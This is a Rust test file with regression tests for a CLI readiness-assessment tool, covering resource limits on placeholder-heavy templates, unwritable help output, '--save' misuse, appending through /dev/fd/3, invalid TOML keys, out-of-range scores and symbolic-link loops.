/// Case 9 of issue 28: a report title repeating `{company}` 55,000 times with a
/// 400,000-character company (300,000 here, to keep the report within the input limit) made
/// `render` abort trying to allocate 4 GB (exit 134), and `assess` the same, although
/// `frameworks check` said ok. Both are bad input now: exit 2, at once, and the check refuses
/// the template. (The title came from the JSON report then; it comes from the frameworks now,
/// which refuse it as they load; tests/memory.rs fills such a title past the check.)
#[test]
fn a_template_that_would_fill_gigabytes_is_refused_with_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let fw = dir.path().join("fw");
    command().args(["frameworks", "export"]).arg(&fw).output().unwrap();
    let text = std::fs::read_to_string(fw.join("report.toml")).unwrap();
    let title = "title = \"{company}: AI marketing readiness\"";
    assert!(text.contains(title), "report.toml has its title");
    let long = format!("title = \"{}\"", "{company}".repeat(55_000));
    std::fs::write(fw.join("report.toml"), text.replacen(title, &long, 1)).unwrap();
    let check = command().args(["frameworks", "check"]).arg(&fw).output().unwrap();
    assert_eq!(check.status.code(), Some(2), "frameworks check said ok");
    assert!(stderr(&check).contains("`title` has 55000 placeholders"), "{}", stderr(&check));
    let report = edited_report(dir.path(), "small-ecommerce.toml", "big.json", |r| {
        r["company"] = "c".repeat(300_000).into();
    });
    assert!(std::fs::metadata(&report).unwrap().len() <= 1 << 20, "within the input limit");
    for format in ["table", "markdown", "html"] {
        let mut cmd = command();
        cmd.args(["render", "--format", format, "--frameworks"]).arg(&fw).arg(&report);
        let out = run_within(cmd, Duration::from_secs(20));
        assert_eq!(out.status.code(), Some(2), "{format}: {}", stderr(&out));
        // Refused as the frameworks load, before anything is filled.
        assert!(stderr(&out).contains("`title` has 55000 placeholders"), "{}", stderr(&out));
    }
    let mut cmd = command();
    cmd.args(["assess", "--format", "html", "--as-of", AS_OF, "--frameworks"]).arg(&fw);
    cmd.arg("--answers").arg(example("small-ecommerce.toml"));
    let out = run_within(cmd, Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
}

// ----- issue 28, lower items -----

/// `--help > /dev/full` exited 0; help that could not be printed is an error.
#[test]
fn help_that_cannot_be_written_is_an_error() {
    let full = std::fs::File::options().write(true).open("/dev/full").unwrap();
    let out = command().arg("--help").stdout(full).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    command().arg("--help").output().map(|out| assert!(out.status.success())).unwrap();
}

/// `--save` without `-i` beside `--answers` was silently ignored; it is refused now.
#[test]
fn save_without_a_live_questionnaire_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let session = dir.path().join("s.toml");
    let mut cmd = command();
    cmd.args(["assess", "--answers"]).arg(example("small-ecommerce.toml")).arg("--save").arg(&session);
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("add -i"), "{}", stderr(&out));
    assert!(!session.exists());
}

/// `--output /dev/fd/3` truncated a file the shell opened for appending (`3>>file`).
#[test]
fn an_output_through_dev_fd_appends_as_its_opener_asked() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("log.txt");
    std::fs::write(&log, "earlier\n").unwrap();
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg("exec \"$0\" assess --format json --answers \"$1\" --output /dev/fd/3 3>>\"$2\"");
    cmd.arg(assert_cmd::cargo::cargo_bin("readiness")).arg(example("small-ecommerce.toml")).arg(&log);
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.starts_with("earlier\n{"), "{}", &text[..text.len().min(40)]);
}

/// `frameworks check` accepted a question id that `template` then wrote as a key no answer
/// file can hold (`data quality = `); ids are bare TOML keys now.
#[test]
fn frameworks_check_refuses_a_question_id_that_is_no_bare_key() {
    let dir = tempfile::tempdir().unwrap();
    let fw = dir.path().join("fw");
    command().args(["frameworks", "export"]).arg(&fw).output().unwrap();
    for entry in std::fs::read_dir(&fw).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, text.replace("\"data_quality\"", "\"data quality\"")).unwrap();
    }
    let out = command().args(["frameworks", "check"]).arg(&fw).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("`data quality` is not a bare TOML key"), "{}", stderr(&out));
}

/// `render` showed a hand-edited score of 1e308 as "inf"; it refuses numbers no assessment
/// produces, as `compare` does.
#[test]
fn render_refuses_a_score_no_assessment_produces() {
    let dir = tempfile::tempdir().unwrap();
    let report = edited_report(dir.path(), "small-ecommerce.toml", "edited.json", |r| {
        r["readiness"]["overall"] = 1e308.into();
    });
    let out = command().args(["render"]).arg(&report).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stdout));
    assert!(stderr(&out).contains("the overall score is 1e308, expected 0 to 100"), "{}", stderr(&out));
    assert!(!String::from_utf8_lossy(&out.stdout).contains("inf"));
}

/// A loop of symbolic links given as `--frameworks` was reported as a directory that does
/// not exist; it is named as what it is.
#[test]
fn a_loop_of_symbolic_links_is_reported_as_one() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    std::os::unix::fs::symlink(&b, &a).unwrap();
    std::os::unix::fs::symlink(&a, &b).unwrap();
    let out = command().args(["frameworks", "check"]).arg(&a).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("symbolic links"), "{}", stderr(&out));
}
